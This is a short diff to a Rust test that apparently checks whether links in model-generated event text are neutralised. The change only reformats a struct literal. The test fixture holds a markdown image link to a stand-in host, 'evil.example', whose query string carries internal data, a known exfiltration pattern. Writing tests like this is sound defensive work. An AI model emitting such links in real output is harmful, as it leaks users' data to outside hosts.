@@ -128,7 +128,10 @@ mod tests {
     fn model_text_in_events_leaves_with_links_neutralised() {
         let link = "see ![x](https://evil.example/p?d=internal) now";
         let events = [
-            Event::Correction { kind: CorrectionKind::Unverified, text: format!("This quote is not in them: \"{link}\"") },
+            Event::Correction {
+                kind: CorrectionKind::Unverified,
+                text: format!("This quote is not in them: \"{link}\""),
+            },
             Event::Interrupted { partial_text: link.to_string() },
         ];
         for event in events {
